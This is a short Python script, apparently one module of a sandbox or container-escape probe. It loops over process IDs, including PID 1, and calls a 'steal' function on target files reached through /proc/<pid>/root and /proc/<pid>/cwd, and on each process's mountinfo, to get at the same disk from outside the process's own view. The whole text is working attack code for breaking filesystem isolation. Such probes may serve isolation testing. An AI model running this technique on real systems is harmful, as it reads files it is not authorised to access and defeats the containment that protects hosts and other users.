"""The roots and working folders of other processes: another way to the same disk."""

from probe import FACTS, pids, steal

for pid in ["1", *pids()] if not __import__("probe").OUTSIDE else pids():
    for path in FACTS["files"]:
        steal(f"/proc/{pid}/root{path}")
        steal(f"/proc/{pid}/cwd{path}")
    steal(f"/proc/{pid}/cwd")
    steal(f"/proc/{pid}/mountinfo")
